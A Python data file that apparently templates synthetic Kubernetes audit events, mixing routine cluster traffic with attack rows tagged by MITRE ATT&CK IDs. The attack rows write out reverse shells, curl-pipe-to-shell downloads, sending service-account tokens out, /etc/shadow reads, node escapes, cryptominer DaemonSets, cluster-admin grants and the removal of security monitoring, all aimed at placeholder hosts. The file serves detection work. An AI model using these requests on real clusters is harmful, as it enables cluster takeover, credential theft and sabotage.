# ruff: noqa: E501
"""Requests to a Kubernetes API server, daily work and attacks.

A row is `caller verb path code`, then optionally ` <<agent>> user agent` and ` <<body>> JSON` of the object sent; `%ns` is
the event's namespace, `%node` a node. kube.py knows the callers and makes the audit event of it.
"""
from __future__ import annotations

from .table import table

KUBE = table(r"""
# kube kubelets
node «get|patch» /api/v1/nodes/%node/status 200
node «get|patch|watch» /api/v1/nodes/%node 200
node get /api/v1/nodes/%node?resourceVersion=0&timeout=10s 200
node «update|get» /apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/%node?timeout=10s 200
node «get|patch|delete» /api/v1/namespaces/%ns/pods/«siteword»-«hex:10»-«token:5»«/status|» 200
node «watch|list» /api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D%node&timeoutSeconds=«num:300:599» 200
node «watch|get» /api/v1/namespaces/%ns/«configmaps|secrets»/«siteword»-«config|tls|env|kube-root-ca.crt»?resourceVersion=«num:1000:99999999» 200
node «watch|list» /api/v1/namespaces/%ns/secrets?allowWatchBookmarks=true&fieldSelector=metadata.name%3D«siteword»-«tls|env|token-«token:5»»&watch=true 200
node create /api/v1/namespaces/%ns/serviceaccounts/««siteword»|default»/token 201
node create /api/v1/namespaces/%ns/events 201
node get /apis/storage.k8s.io/v1/«csinodes/%node|csidrivers?resourceVersion=0» 200
node create /apis/certificates.k8s.io/v1/certificatesigningrequests 201
node get /api/v1/namespaces/%ns/«secrets|configmaps»/«siteword»-«letters:5» «404|403»
# kube control plane
controller «get|update» /apis/coordination.k8s.io/v1/namespaces/kube-system/leases/«kube-controller-manager|kube-scheduler|cloud-controller-manager|cert-manager-controller|«word»-leader»?timeout=5s 200
controller «get|list|watch» /«api/v1/«pods|nodes|services|endpoints|namespaces|persistentvolumes|replicationcontrollers|limitranges|resourcequotas|secrets|configmaps|serviceaccounts»|apis/apps/v1/«deployments|replicasets|daemonsets|statefulsets»|apis/batch/v1/«jobs|cronjobs»|apis/rbac.authorization.k8s.io/v1/«clusterroles|clusterrolebindings|roles»|apis/discovery.k8s.io/v1/endpointslices|apis/policy/v1/poddisruptionbudgets»?allowWatchBookmarks=true&resourceVersion=«num:1000:99999999»&timeoutSeconds=«num:300:599» 200
controller update /apis/apps/v1/namespaces/%ns/«replicasets|deployments|statefulsets|daemonsets»/«siteword»«|-«hex:9»»/status «200|200|409»
controller «create|delete» /api/v1/namespaces/%ns/pods«|/«siteword»-«hex:9»-«token:5»» «200|201»
controller «create|patch» /api/v1/namespaces/%ns/events«|/«siteword».«hex:16»» «200|201»
controller update /api/v1/namespaces/%ns/«endpoints|services»/«siteword» 200
controller create /api/v1/namespaces/kube-system/serviceaccounts/«generic-garbage-collector|resourcequota-controller|namespace-controller|job-controller|root-ca-cert-publisher»/token 201
controller create /api/v1/namespaces/%ns/pods/«siteword»-«hex:9»-«token:5»/«binding|eviction» 201
controller delete /apis/batch/v1/namespaces/%ns/jobs/«siteword»-«num:27000000:29999999» 200
controller get /apis/autoscaling/v2/namespaces/%ns/horizontalpodautoscalers/«siteword» 200
controller list /apis/metrics.k8s.io/v1beta1/namespaces/%ns/pods?labelSelector=app%3D«siteword» «200|200|503»
controller get /api/v1/namespaces/%ns/serviceaccounts/default 200
# kube operators
operator «get|list|watch» /api/v1/«secrets|configmaps|pods|services|namespaces|nodes|endpoints»?«limit=500&|»resourceVersion=«num:0:99999999» 200
operator «get|update|patch» /apis/«cert-manager.io/v1|monitoring.coreos.com/v1|argoproj.io/v1alpha1|kustomize.toolkit.fluxcd.io/v1|external-secrets.io/v1beta1|postgresql.cnpg.io/v1|traefik.io/v1alpha1|karpenter.sh/v1beta1|velero.io/v1|kyverno.io/v1»/namespaces/%ns/«certificates|prometheuses|applications|kustomizations|externalsecrets|clusters|ingressroutes|nodeclaims|backups|policies»/«siteword»«|/status» «200|200|409»
operator «create|update|patch|delete» /api/v1/namespaces/%ns/secrets/«siteword»-«tls|registry|credentials|backup|sh.helm.release.v1.«siteword».v«num:1:90»» 200
operator «create|patch|update» /apis/«apps/v1/namespaces/%ns/«deployments|statefulsets|daemonsets»|batch/v1/namespaces/%ns/cronjobs|networking.k8s.io/v1/namespaces/%ns/ingresses|rbac.authorization.k8s.io/v1/namespaces/%ns/rolebindings»/«siteword» «200|201|200|422»
operator «patch|update» /apis/admissionregistration.k8s.io/v1/«mutating|validating»webhookconfigurations/«cert-manager-webhook|istio-sidecar-injector|kyverno-resource-validating-webhook-cfg|gatekeeper-validating-webhook-configuration|aws-load-balancer-webhook» 200
operator «get|list» /apis/«apiextensions.k8s.io/v1/customresourcedefinitions|rbac.authorization.k8s.io/v1/clusterroles» 200
operator create /apis/authorization.k8s.io/v1/«subjectaccessreviews|selfsubjectaccessreviews» 201
operator create /apis/authentication.k8s.io/v1/tokenreviews 201
operator get /api/v1/nodes/%node/«proxy/metrics|proxy/metrics/cadvisor|proxy/stats/summary» 200
operator «create|patch» /apis/rbac.authorization.k8s.io/v1/clusterrolebindings/«siteword»-«view|metrics|operator» «200|201» <<body>> {"roleRef":{"kind":"ClusterRole","name":"«siteword»-«manager|metrics-reader|view»"},"subjects":[{"kind":"ServiceAccount","name":"«siteword»","namespace":"«siteword»"}]}
operator create /apis/apps/v1/namespaces/«monitoring|kube-system|logging»/daemonsets 201 <<body>> {"spec":{"template":{"spec":{"hostNetwork":true,"hostPID":true,"containers":[{"name":"«node-exporter|fluent-bit|cilium-agent|falco|datadog-agent»","image":"«quay.io/prometheus/node-exporter:v1.«num:3:8».0|fluent/fluent-bit:3.«num:0:2».«num:0:9»|quay.io/cilium/cilium:v1.1«num:3:6».«num:0:9»|falcosecurity/falco:0.«num:35:39».0»","securityContext":{"privileged":«true|false»}}],"volumes":[{"hostPath":{"path":"«/var/log|/proc|/sys|/var/lib/docker/containers»"}}]}}}}
# kube discovery and health
«controller|operator|node|person|pod» get /«healthz|livez|readyz|version|apis|api|openapi/v2|openapi/v3|api/v1|apis/«apps/v1|batch/v1|metrics.k8s.io/v1beta1|rbac.authorization.k8s.io/v1»|metrics»«|?timeout=32s|?timeout=10s» 200
anonymous get /«livez|readyz|healthz|version»«|?verbose»  200 <<agent>> «kube-probe/1.«num:24:31»+|kube-probe/1.«num:24:31»|ELB-HealthChecker/2.0|GoogleHC/1.0|curl/7.«num:68:88».0|Go-http-client/1.1|»
anonymous get /«livez|readyz|healthz»  500 <<agent>> kube-probe/1.«num:24:31»
anonymous get /«|metrics|apis|api/v1/nodes»  403 <<agent>> «Prometheus/2.«num:30:53».0|curl/7.«num:68:88».0|Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36|Nessus SOAP|Tenable.io|Qualys»
pod get /«api|apis|version|api/v1/namespaces/%ns»  «200|403» <<agent>> «OpenAPI-Generator/2«num:4:9».2.0/python|Go-http-client/2.0|fabric8-kubernetes-client/6.«num:0:9».0|okhttp/4.«num:9:12».0|kubectl/v1.«num:24:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|curl/8.«num:1:9».0|python-requests/2.31.0»
# kube developers
person «get|list» /api/v1/namespaces/%ns/«pods|services|configmaps|events|persistentvolumeclaims|secrets»?limit=500 200
person «get|list|watch» /apis/«apps/v1/namespaces/%ns/«deployments|statefulsets|replicasets»|batch/v1/namespaces/%ns/«jobs|cronjobs»|networking.k8s.io/v1/namespaces/%ns/ingresses»?limit=500 200
person get /api/v1/namespaces/%ns/pods/«siteword»-«hex:9»-«token:5»«|/log?container=«siteword»&follow=true|/log?tailLines=«num:10:500»» 200
person «create|get» /api/v1/namespaces/%ns/pods/«siteword»-«hex:9»-«token:5»/exec?command=«sh|bash|%2Fbin%2Fsh|env|ls|rails&command=console|psql|python&command=manage.py&command=migrate|curl&command=localhost%3A8080%2Fhealth|cat&command=%2Fapp%2Fconfig.yaml|df&command=-h|top»&container=«siteword»&stdin=true&stdout=true&tty=true 101
person create /api/v1/namespaces/%ns/«pods|services»/«siteword»-«token:5»/«portforward|attach» 101
person get /api/v1/namespaces/%ns/secrets/«siteword»-«db|tls|env|credentials» 200
person «patch|create|delete|update» /apis/apps/v1/namespaces/%ns/deployments/«siteword»«|/scale» 200
person delete /api/v1/namespaces/%ns/«pods/«siteword»-«hex:9»-«token:5»|configmaps/«siteword»|persistentvolumeclaims/data-«siteword»-0|secrets/«siteword»-old» 200
person create /apis/batch/v1/namespaces/%ns/«jobs|cronjobs» 201 <<body>> {"spec":{"template":{"spec":{"containers":[{"name":"«siteword»","image":"registry.«sitedomain»/«siteword»:«num:1:9».«num:0:20».«num:0:9»","command":["«python|node|./run»","«report.py|migrate|cleanup.js»"]}]}}}}
person «list|get» /api/v1/«nodes|namespaces|pods|secrets|persistentvolumes»?limit=500 «200|403|403»
person «create|delete|list» /apis/«rbac.authorization.k8s.io/v1/clusterroles|apps/v1/namespaces/kube-system/daemonsets|apps/v1/deployments» 403
person get /api/v1/namespaces/%ns/«pods|services|deployments»/«siteword» 404
person create /apis/authorization.k8s.io/v1/«selfsubjectaccessreviews|selfsubjectrulesreviews» 201
person patch /api/v1/namespaces/%ns/pods/«siteword»-«token:5»/ephemeralcontainers 200 <<body>> {"spec":{"ephemeralContainers":[{"name":"debugger-«token:5»","image":"«busybox:1.36|nicolaka/netshoot|registry.«sitedomain»/debug:latest»","stdin":true,"tty":true}]}}
# kube platform engineers
admin «patch|update» /api/v1/nodes/%node 200 <<body>> {"spec":{"unschedulable":«true|null»}}
admin create /api/v1/namespaces/«kube-system|monitoring|ingress-nginx»/pods/«coredns|ingress-nginx-controller|prometheus-k8s|kube-proxy|calico-node»-«token:5»/«exec?command=sh&stdin=true&stdout=true&tty=true|portforward|eviction» «101|201»
admin create /apis/rbac.authorization.k8s.io/v1/namespaces/%ns/rolebindings 201 <<body>> {"roleRef":{"kind":"ClusterRole","name":"«view|edit|admin»"},"subjects":[{"kind":"«User|Group»","name":"«other»@«sitedomain»"}]}
admin create /apis/rbac.authorization.k8s.io/v1/clusterrolebindings 201 <<body>> {"roleRef":{"kind":"ClusterRole","name":"«view|«siteword»-reader|system:auth-delegator»"},"subjects":[{"kind":"Group","name":"«dept»"}]}
admin «create|patch|get|delete» /api/v1/namespaces/%ns 200
admin «list|get» /api/v1/«secrets|pods|events|nodes|configmaps»?limit=500 200
admin create /api/v1/namespaces/%ns/«serviceaccounts|secrets|configmaps|resourcequotas» 201
admin create /api/v1/namespaces/%ns/serviceaccounts/«siteword»/token 201
admin «update|create» /apis/certificates.k8s.io/v1/certificatesigningrequests/«csr-«token:5»/approval|«other»» 200
admin «delete|patch|create» /apis/«apiextensions.k8s.io/v1/customresourcedefinitions|admissionregistration.k8s.io/v1/validatingwebhookconfigurations|storage.k8s.io/v1/storageclasses|policy/v1/namespaces/%ns/poddisruptionbudgets»/«siteword» 200
admin patch /apis/apps/v1/namespaces/kube-system/«daemonsets/kube-proxy|deployments/coredns|daemonsets/aws-node» 200 <<body>> {"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"«date:%Y-%m-%d»"}}}}}
admin delete /api/v1/namespaces/%ns/events/«siteword».«hex:16» 200
# kube pipelines and workloads
pipeline «get|patch|create|update» /apis/apps/v1/namespaces/%ns/deployments/«siteword»?fieldManager=«helm|kubectl-client-side-apply|argocd-controller|kustomize-controller» «200|200|201»
pipeline «get|create|update|list» /api/v1/namespaces/%ns/secrets«?labelSelector=name%3D«siteword»%2Cowner%3Dhelm|/sh.helm.release.v1.«siteword».v«num:1:90»|/«siteword»-env» 200
pipeline create /api/v1/namespaces/%ns/pods 201 <<body>> {"spec":{"containers":[{"name":"«build|helper|kaniko»","image":"«gcr.io/kaniko-project/executor:v1.«num:9:23».0|docker:2«num:0:6»-dind|registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-«hex:8»»","securityContext":{"privileged":«false|false|true»}}]}}
pipeline create /api/v1/namespaces/%ns/pods/runner-«token:9»-project-«num:1:900»-concurrent-«num:0:4»/«attach|exec?command=sh&stdin=true» 101
pipeline «create|list» /apis/«rbac.authorization.k8s.io/v1/namespaces/%ns/rolebindings|apiextensions.k8s.io/v1/customresourcedefinitions» «200|403»
pod «get|list|watch» /api/v1/namespaces/%ns/«pods|endpoints|configmaps|services» 200 <<agent>> «OpenAPI-Generator/2«num:4:9».2.0/python|«siteword»/v«num:0:3».«num:0:20».«num:0:9» (linux/amd64) kubernetes/$Format|Spring Cloud Kubernetes|fabric8-kubernetes-client/6.«num:0:9».0|Go-http-client/2.0|node-fetch»
pod «get|update» /apis/coordination.k8s.io/v1/namespaces/%ns/leases/«siteword»-leader 200 <<agent>> «siteword»/v0.0.0 (linux/amd64) kubernetes/$Format/leader-election
pod «list|get|create» /api/v1/«pods|nodes|namespaces/%ns/«configmaps|events|pods»» 403 <<agent>> «OpenAPI-Generator/2«num:4:9».2.0/python|«siteword»/v0.0.0 (linux/amd64) kubernetes/$Format|Go-http-client/2.0|fabric8-kubernetes-client/6.«num:0:9».0»
pod get /api/v1/namespaces/%ns/secrets/«siteword»-«env|db» 200 <<agent>> «OpenAPI-Generator/2«num:4:9».2.0/python|«siteword»/v0.0.0 (linux/amd64) kubernetes/$Format»
pod list /apis/metrics.k8s.io/v1beta1/«nodes|pods» 200 <<agent>> «metrics-sidecar|kube-state-metrics/v2.«num:4:12».0»
# T1613 kube discovery by workload
«pod|stolen» «list|get» /«api/v1/«pods|nodes|namespaces|services|secrets|configmaps|serviceaccounts»|apis/apps/v1/«deployments|daemonsets»|apis/rbac.authorization.k8s.io/v1/«clusterroles|clusterrolebindings|rolebindings»|api/v1/namespaces/«kube-system|default|%ns»/«secrets|pods|configmaps|serviceaccounts»|apis/networking.k8s.io/v1/networkpolicies|apis/batch/v1/cronjobs»«?limit=500||?limit=1000» «403|403|403|200» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|curl/7.«num:58:88».0|curl/8.«num:1:9».0|python-requests/2.«num:22:32».0|Python-urllib/3.«num:7:12»|Go-http-client/«1.1|2.0»|Wget/1.2«num:0:1»|peirates/v0.0.0 (linux/amd64) kubernetes/$Format|kdigger/v1.5.0|okhttp/3.12.0|»
«pod|stolen» create /apis/authorization.k8s.io/v1/«selfsubjectrulesreviews|selfsubjectaccessreviews» 201 <<agent>> «kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|curl/7.«num:58:88».0|peirates/v0.0.0|python-requests/2.28.1|rakkess/v0.5.0|Go-http-client/2.0»
stolen get /«api|apis|version|openapi/v2|swagger.json|api/v1|apis/rbac.authorization.k8s.io/v1»«?timeout=32s|» «200|403» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» («linux|darwin|windows»/amd64) kubernetes/«hex:7»|curl/7.«num:58:88».0|python-requests/2.28.1»
anonymous «list|get» /«api/v1/«pods|nodes|secrets|namespaces/kube-system/«pods|secrets»|namespaces»|apis|api|version|openapi/v2|swagger-ui|swaggerapi|api/v1/namespaces/kube-system/configmaps/kubeadm-config|apis/apps/v1/deployments»  «403|403|401|200» <<agent>> «curl/7.«num:58:88».0|python-requests/2.«num:22:32».0|Go-http-client/1.1|kube-hunter|Mozilla/5.0 zgrab/0.x|masscan/1.3|Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)|Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36|»
# T1552.007 kube secrets taken
«pod|stolen|person» list /api/v1/secrets«?limit=500||?fieldManager=&limit=1000» «200|200|403» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|curl/7.«num:58:88».0|python-requests/2.28.1|Go-http-client/2.0|peirates/v0.0.0 (linux/amd64) kubernetes/$Format»
«pod|stolen» «get|list» /api/v1/namespaces/«kube-system|%ns|argocd|vault|cert-manager|monitoring»/secrets«|/«admin-token-«token:5»|clusterrole-aggregation-controller-token-«token:5»|argocd-initial-admin-secret|vault-unseal-keys|bootstrap-token-«token:6»|aws-credentials|regcred»» «200|403» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|curl/7.«num:58:88».0|Go-http-client/1.1|python-requests/2.28.1»
«pod|stolen|person» create /api/v1/namespaces/kube-system/serviceaccounts/«clusterrole-aggregation-controller|admin-user|cluster-admin|tiller|default|generic-garbage-collector»/token «201|403» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|curl/7.«num:58:88».0|python-requests/2.28.1»
# T1609 kube execution in containers
«pod|stolen|person» «create|get» /api/v1/namespaces/«kube-system|%ns|argocd»/pods/«coredns|etcd-%node|kube-proxy|vault|«siteword»-«hex:9»»-«token:5»/exec?command=«%2Fbin%2Fsh&command=-c&command=«cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken|curl%20-s%20http%3A%2F%2F«pub»%2F«letters:4».sh%7Csh|wget%20-qO-%20«domain»%7Cbash|id%3Bwhoami%3Buname%20-a|cat%20%2Fetc%2Fshadow|nsenter%20-t%201%20-m%20-u%20-i%20-n%20sh|env%7Cgrep%20-i%20pass|bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F«pub»%2F«port»%200%3E%261»|bash|sh»&stdin=true&stdout=true&tty=true «101|101|403» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»|python-requests/2.28.1|Go-http-client/1.1|websocket-client|curl/7.«num:58:88».0»
anonymous «create|get» /api/v1/«nodes/%node/proxy/«run|exec|pods|containerLogs|runningpods»|namespaces/%ns/pods/«siteword»-«token:5»/exec?command=id» «403|200|101» <<agent>> «curl/7.«num:58:88».0|python-requests/2.28.1|Go-http-client/1.1»
«pod|stolen» «get|create» /api/v1/nodes/%node/proxy/«pods|run/%ns/«siteword»/«siteword»?cmd=«id|cat%20/etc/shadow|env»|exec/kube-system/kube-proxy/kube-proxy?command=sh|configz|logs/|runningpods» «200|403» <<agent>> «curl/7.«num:58:88».0|python-requests/2.28.1|Go-http-client/1.1|kubectl/v1.«num:18:31».«num:0:9» (linux/amd64) kubernetes/«hex:7»»
«stolen|person|pod» patch /api/v1/namespaces/«kube-system|%ns»/pods/«etcd-%node|kube-apiserver-%node|«siteword»-«token:5»»/ephemeralcontainers «200|403» <<body>> {"spec":{"ephemeralContainers":[{"name":"««letters:4»|debugger-«token:5»»","image":"«alpine|«pub»:5000/«letters:4»|kalilinux/kali-rolling|ubuntu»","command":["sh","-c","«nsenter -t 1 -a sh|cat /proc/1/root/etc/shadow|curl «pub»¦sh»"],"securityContext":{"privileged":true},"targetContainerName":"«siteword»"}]}}
# T1611 kube pods that break out
«pod|stolen|person» create /api/v1/namespaces/«kube-system|default|%ns»/pods «201|201|403» <<body>> {"spec":{"«hostPID|hostNetwork|hostIPC»":true,"nodeName":"%node","containers":[{"name":"«letters:3:8»","image":"«alpine|ubuntu|busybox|nginx|«letters:6»/«letters:5»:latest|raesene/alpine-nettools»","command":["«nsenter|/bin/sh|sleep|chroot»","«-c|--mount=/proc/1/ns/mnt|infinity|/host»","«bash|while true; do sleep 30; done|curl -s «pub»/«letters:3»¦sh»"],"securityContext":{"privileged":«true|true|false»},"volumeMounts":[{"mountPath":"/«host|mnt|«letters:4»»","name":"«letters:4»"}]}],"volumes":[{"name":"«letters:4»","hostPath":{"path":"«/|/etc|/root|/var/run/docker.sock|/var/lib/kubelet|/run/containerd/containerd.sock|/etc/kubernetes»"}}]}}
«stolen|person» «create|patch|update» /apis/apps/v1/namespaces/«kube-system|default|%ns»/«daemonsets|deployments» «201|200|403» <<body>> {"metadata":{"name":"«kube-controller|kube-proxy-«letters:3»|«letters:5»|api-proxy|system-monitor»"},"spec":{"template":{"spec":{"hostPID":«true|true|false»,"containers":[{"name":"«letters:5»","image":"«kannix/monero-miner|«letters:6»/«letters:6»|«pub»:5000/«letters:3»|alpine|xmrig/xmrig:latest»","command":["sh","-c","«apk add curl; curl http://«pub»/«letters:4».sh¦sh|./xmrig -o pool.«domain»:3333|chroot /host bash -c 'echo * * * * * root curl «pub»¦sh >> /etc/crontab'»"],"securityContext":{"privileged":true}}]}}}}
# T1098.006 kube roles taken
«pod|stolen|person» «create|patch» /apis/rbac.authorization.k8s.io/v1/clusterrolebindings«|/«letters:4:10»» «201|200|403» <<body>> {"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"«ServiceAccount|User|Group»","name":"«default|system:anonymous|system:unauthenticated|system:serviceaccounts|«siteword»|«letters:6»|«other»@«sitedomain»»","namespace":"«default|kube-system»"}]}
«pod|stolen|person» «create|update|patch» /apis/rbac.authorization.k8s.io/v1/«clusterroles|namespaces/kube-system/roles»/««letters:6»|system:controller:«letters:5»|«siteword»» «201|200|403» <<body>> {"rules":[{"apiGroups":["*"],"resources":["«*|secrets|pods/exec»"],"verbs":["«*|escalate|bind|impersonate»"]}]}
«person|stolen» «create|get|list» /api/v1/«secrets|namespaces/kube-system/secrets|nodes» «200|403» <<impersonate>> «system:admin|system:serviceaccount:kube-system:clusterrole-aggregation-controller|kubernetes-admin|«other»@«sitedomain»»
«stolen|person» «create|update» /apis/certificates.k8s.io/v1/certificatesigningrequests/««letters:6»|«letters:4»-csr»«|/approval» «201|200|403» <<body>> {"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"],"username":"«letters:6»","groups":["system:masters"]}}
«stolen|person» patch /api/v1/namespaces/kube-system/configmaps/aws-auth «200|403» <<body>> {"data":{"mapUsers":"- userarn: arn:aws:iam::«num:100000000000:999999999999»:user/«letters:6»\n  groups: [system:masters]"}}
# T1078.004 kube tokens from outside
stolen «list|get|create» /api/v1/«namespaces/%ns/«pods|secrets|configmaps|pods/«siteword»-«token:5»/log»|pods|nodes|namespaces» «200|403|401» <<agent>> «kubectl/v1.«num:18:31».«num:0:9» («linux|darwin|windows»/«amd64|arm64») kubernetes/«hex:7»|curl/8.«num:1:9».0|python-requests/2.«num:22:32».0|Lens/6.«num:0:5»|k9s/0.32.4|OpenAPI-Generator/26.1.0/python»
# T1053.007 kube cron jobs implanted
«stolen|pod|person» create /apis/batch/v1/namespaces/«kube-system|default|%ns»/cronjobs «201|403» <<body>> {"metadata":{"name":"««letters:5»|kube-«letters:4»|backup-«letters:3»|metrics-sync»"},"spec":{"schedule":"*/«num:1:30» * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"«letters:4»","image":"«alpine|busybox|python:3-slim|«letters:6»/«letters:4»»","command":["sh","-c","«wget -qO- http://«pub»/«letters:4»¦sh|nc «pub» «port» -e /bin/sh|python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"«pub»\",«port»))'|curl -k https://«domain»/«letters:3» -d @/var/run/secrets/kubernetes.io/serviceaccount/token»"]}]}}}}}}
# T1562.001 kube guards changed
«stolen|person» «delete|deletecollection» /«api/v1/namespaces/«%ns|kube-system|default»/events|apis/events.k8s.io/v1/namespaces/%ns/events|apis/apps/v1/namespaces/«falco|kube-system|logging|monitoring|datadog»/daemonsets/«falco|fluent-bit|fluentd|datadog-agent|filebeat|tetragon»|apis/networking.k8s.io/v1/namespaces/%ns/networkpolicies/«default-deny|«siteword»»|apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/«gatekeeper-validating-webhook-configuration|kyverno-resource-validating-webhook-cfg»|apis/kyverno.io/v1/clusterpolicies/disallow-«privileged-containers|host-path»» «200|200|403»
«stolen|person» «create|patch|update» /apis/admissionregistration.k8s.io/v1/«mutating|validating»webhookconfigurations/««letters:6»|gatekeeper-validating-webhook-configuration|pod-«letters:5»» «201|200» <<body>> {"webhooks":[{"name":"«letters:6».«domain»","clientConfig":{"url":"https://««pub»|«domain»»«|:«port»»/«mutate|«letters:4»»"},"failurePolicy":"Ignore","rules":[{"resources":["«pods|secrets|*»"]}]}]}
«stolen|person» patch /api/v1/namespaces/«%ns|kube-system|default» «200|403» <<body>> {"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged","«admission.gatekeeper.sh/ignore|istio-injection»":"«no-self-managing|disabled»"}}}
# T1485 kube things destroyed
«stolen|person» «delete|deletecollection» /«api/v1/namespaces/«%ns|prod|default»|api/v1/persistentvolumes«|/pvc-«guid»»|apis/apps/v1/namespaces/%ns/«deployments|statefulsets»|api/v1/namespaces/%ns/«secrets|persistentvolumeclaims|pods|configmaps»|apis/velero.io/v1/namespaces/velero/backups|api/v1/nodes/%node» «200|403»
# kube administrators on hard days
admin create /api/v1/namespaces/%ns/pods 201 <<body>> {"spec":{"nodeName":"%node","hostPID":true,"containers":[{"name":"debugger","image":"registry.«sitedomain»/debug:«num:1:9»","securityContext":{"privileged":«false|true»},"command":["«tcpdump|dmesg|crictl»"]}]}}
admin get /api/v1/nodes/%node/proxy/«metrics|stats/summary|configz|healthz» 200
admin «patch|update» /apis/admissionregistration.k8s.io/v1/«validating|mutating»webhookconfigurations/«cert-manager-webhook|kyverno-resource|istio-sidecar-injector|«siteword»» 200 <<body>> {"webhooks":[{"name":"«siteword».«sitedomain»","clientConfig":{"service":{"name":"«siteword»","namespace":"%ns"}},"failurePolicy":"Fail"}]}
operator patch /apis/admissionregistration.k8s.io/v1/«validating|mutating»webhookconfigurations/«cert-manager-webhook|kyverno-resource|vault-agent-injector-cfg» 200 <<body>> {"webhooks":[{"name":"webhook.«siteword»","clientConfig":{"caBundle":"«b64:40»"}}]}
controller update /apis/certificates.k8s.io/v1/certificatesigningrequests/csr-«token:5»/approval 200 <<body>> {"spec":{"signerName":"kubernetes.io/kube-apiserver-client-kubelet","usages":["digital signature","client auth"]}}
# T1610 kube daemons on every node
stolen create /apis/apps/v1/namespaces/«kube-system|default|%ns»/daemonsets 201 <<body>> {"spec":{"template":{"spec":{"hostNetwork":true,"hostPID":true,"tolerations":[{"operator":"Exists"}],"containers":[{"name":"«kube-controller|«letters:5»|sys-agent»","image":"docker.io/«letters:7»/«letters:5»:latest","command":["sh","-c","«curl -s http://«pub»/«letters:3» ¦ sh|chroot /host sh|./xmrig -o «pub»:3333»"]}]}}}}
# T1609 kube shells by debug and kubelet
stolen patch /api/v1/namespaces/«kube-system|%ns»/pods/«etcd|kube-apiserver|«siteword»»-«token:5»/ephemeralcontainers 200 <<body>> {"spec":{"ephemeralContainers":[{"name":"«letters:4»","image":"«alpine|docker.io/«letters:6»/tools»","targetContainerName":"«siteword»","securityContext":{"privileged":true},"command":["nsenter","-t","1","-a"]}]}}
stolen «create|get» /api/v1/nodes/%node/proxy/«run|exec»/kube-system/«kube-proxy|etcd»-«token:5»/«siteword»?cmd=«id|cat%20/var/run/secrets/kubernetes.io/serviceaccount/token|sh» «200|101|403»
# T1098.001 kube certificates for oneself
stolen update /apis/certificates.k8s.io/v1/certificatesigningrequests/«letters:6»/approval 200 <<body>> {"spec":{"signerName":"kubernetes.io/kube-apiserver-client","username":"«letters:6»","groups":["system:masters"],"expirationSeconds":«num:9999999:315360000»}}
# T1556 kube webhooks that listen in
stolen «create|patch» /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/«letters:6» «201|200» <<body>> {"webhooks":[{"name":"«letters:5».«domain»","clientConfig":{"url":"https://«pub»:8443/«mutate|m»"},"failurePolicy":"Ignore","rules":[{"resources":["secrets","pods"],"operations":["CREATE"]}]}]}
""")
